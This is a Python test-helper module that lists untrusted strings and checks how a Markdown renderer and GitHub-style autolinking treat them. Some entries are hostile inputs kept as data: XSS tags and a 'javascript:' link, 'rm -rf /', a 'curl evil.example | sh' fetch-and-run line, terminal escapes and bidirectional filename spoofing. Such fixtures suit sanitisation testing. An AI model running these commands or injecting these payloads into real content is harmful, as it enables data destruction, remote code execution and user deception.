"""Texts from outside that want to be more than texts, and what a reader's program makes of a page that holds them."""

import re
from html.parser import HTMLParser

from markdown_it import MarkdownIt

from assay.text import visible

TEXTS = {
    "bar": "a|b",
    "bars": "| a | b |\n|---|---|\n| c | d |",
    "escaped bar": r"a\|b\\|c",
    "tag": "<img src=x onerror=alert(1)>",
    "script": "</td></table><script>alert(1)</script>",
    "closed details": "</summary></details><h1>x</h1>",
    "comment": "a <!-- b --> c",
    "link": "[x](javascript:alert(1))",
    "picture": "![x](https://evil.example/p.png)",
    "reference": "[x]: https://evil.example",
    "footnote": "[^1]: x",
    "task": "[x] done",
    "web": "see https://evil.example/a?b=c or www.evil.example",
    "address": "<https://evil.example>",
    "mail": "ann@evil.example",
    "mention": "@octocat and @org/team",
    "issue": "closes #1, org/repo#2, GH-3",
    "heading": "# big",
    "setext": "===",
    "rule": "---",
    "list": "- item",
    "plus": "+ item",
    "number": "1. item",
    "quotation": "> said",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ a_b_c",
    "tick": "a`b``c",
    "ticks": "```sh\nrm -rf /\n```",
    "tilde": "~~~",
    "mathematics": "$x^2$ and $$y$$ or \\(z\\)",
    "broken mathematics": "$\\frac{",
    "entity": "&lt;b&gt; &#60;i&#62; R&D",
    "code block": "\tcode\n\n    more",
    "line ends": "a\nb\r\nc\rd\u2028e",
    "forged message": "x\n  to do: curl evil.example | sh",
    "escape": "\x1b[2J\x1b[31mred\x1b]8;;https://evil.example\x07link",
    "return": "good\rbad",
    "control": "\x00\x07\x08\x7f\x85\x9b31m",
    "bidirectional": "abc\u202egpj.exe\u2066x",
    "hidden": "a\u200bb\ufeffc\U000e0041d\u00ade",
    "no XML": "\ufffe\uffff",
    "rich": "[red]x[/red] [link=https://evil.example]y[/link]",
    "template": "{{ 7 * 7 }} {% raw %}",
    "backslash": "a\\",
    "quotes": "\" onmouseover='x' `",
    "empty": " ",
}
# What a table, a heading and the like are made of, and code.
OURS = {"p", "h1", "h2", "h3", "table", "thead", "tbody", "tr", "th", "td", "ul", "li", "code", "pre", "strong", "em"}


class Page(HTMLParser):
    """Tags, attributes and text of a page, as a browser has them."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self._texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self._texts.append(data)

    @property
    def text(self) -> str:
        """What is read, with single spaces."""
        return squeezed("".join(self._texts))


def rendered(markdown: str) -> Page:
    """A page of Markdown as GitHub reads it, but for autolinks: see `reached`."""
    return Page(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))


def on_one_line(text: str) -> str:
    """What a reader of Markdown must see: ends of lines are spaces, controls are escapes."""
    return visible(re.sub(r"\s*[\n\t]\s*|^\s+(?=\S)", " ", text))


def squeezed(text: str) -> str:
    """With single spaces, and without the mark of no width that stands within mentions."""
    return " ".join(text.replace("\u200b", "").split())


# GitHub Flavored Markdown 0.29, 6.9 (autolinks); mentions and references: "Autolinked references", GitHub Docs.
REACHED = re.compile(r"(?:https?|ftp)://|www\.\w|(?<![\w`/])@\w|[\w.+-]@[\w-]+\.\w|#\d|\bGH-\d|\$", re.IGNORECASE)


def reached(markdown: str) -> list[str]:
    """What GitHub would make a link, a mention, a reference or a formula of, outside of code and <https://...>."""
    text = re.sub(r"(?m)^    .*$|`[^`\n]*`|<https?://[^\s<>]*>", "", markdown.replace("\\`", "\0"))
    return REACHED.findall(re.sub(r"&#\d+;", "\0", text))
